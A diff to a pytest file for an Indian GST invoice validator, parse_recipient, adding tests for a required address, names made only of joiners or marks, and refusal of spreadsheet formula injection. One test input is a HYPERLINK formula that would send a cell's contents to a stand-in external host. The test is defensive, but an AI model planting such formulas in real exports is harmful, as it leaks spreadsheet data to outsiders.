@@ -93,21 +93,53 @@ def test_a_recipients_name_and_address_are_one_printable_line_within_limits() ->
         "27",
     )
     for args, field, key in [
-        (("27AAPFU0939F1ZV", " "), "name", "required"),
-        (("27AAPFU0939F1ZV", "x" * 101), "name", "too_long"),
-        (("27AAPFU0939F1ZV", "Acme\u202egnp."), "name", "not_printable"),
+        (("27AAPFU0939F1ZV", " ", "Pune"), "name", "required"),
+        (("27AAPFU0939F1ZV", "x" * 101, "Pune"), "name", "too_long"),
+        (("27AAPFU0939F1ZV", "Acme\u202egnp.", "Pune"), "name", "not_printable"),
         (("27AAPFU0939F1ZV", "Acme", "y" * 201), "address", "too_long"),
-        (("27AAPFU0939F1ZW", "Acme"), "gstin", "gstin_check"),
+        (("27AAPFU0939F1ZW", "Acme", "Pune"), "gstin", "gstin_check"),
     ]:
         with pytest.raises(TaxError) as err:
             parse_recipient(*args)
         assert (err.value.field, err.value.key) == (field, key)
 
 
+def test_the_recipients_address_is_required_with_the_gstin() -> None:
+    """Rule 46(d): a tax invoice to a registered person carries their address."""
+    for address in ("", " \t "):
+        with pytest.raises(TaxError) as err:
+            parse_recipient("27AAPFU0939F1ZV", "Acme Fleet", address)
+        assert (err.value.field, err.value.key) == ("address", "required")
+
+
+@pytest.mark.parametrize("name", ["\u200d", "\u200c\u200d\u200c", "\u0301\u0301", ". - ."])
+def test_a_name_without_a_letter_or_digit_names_no_one(name: str) -> None:
+    """Joiners or marks only print as nothing: Rule 46(d) asks for the recipient's name."""
+    with pytest.raises(TaxError) as err:
+        parse_recipient("27AAPFU0939F1ZV", name, "Pune")
+    assert (err.value.field, err.value.key) == ("name", "required")
+    with pytest.raises(TaxError) as err:
+        parse_recipient("27AAPFU0939F1ZV", "Acme", name)
+    assert (err.value.field, err.value.key) == ("address", "required")
+
+
+@pytest.mark.parametrize(
+    "typed",
+    ['=HYPERLINK("http://x.example/?"&A1,"Acme")', "+91 Acme", "-1+1", "@SUM(A1)", "\t=1+1"],
+)
+def test_a_value_a_spreadsheet_would_run_as_a_formula_is_refused(typed: str) -> None:
+    """The export's CSV files carry the name and address to the owner's spreadsheet."""
+    for args, field in (((typed, "Pune"), "name"), (("Acme", typed), "address")):
+        with pytest.raises(TaxError) as err:
+            parse_recipient("27AAPFU0939F1ZV", *args)
+        assert (err.value.field, err.value.key) == (field, "not_printable")
+    assert parse_recipient("27AAPFU0939F1ZV", "Acme = Fleet", "Pune-1").name == "Acme = Fleet"
+
+
 def test_a_devanagari_name_keeps_its_joiners() -> None:
     # "क्‍ष" with a zero-width joiner: Devanagari spelling needs it, it is not a hidden trick.
     name = "\u0915\u094d\u200d\u0937 \u0935\u093e\u0939\u0928"
-    assert parse_recipient("27AAPFU0939F1ZV", name).name == name
+    assert parse_recipient("27AAPFU0939F1ZV", name, "Pune").name == name
 
 
 def _exact_taxable(total: int, rate_bp: int) -> Fraction:
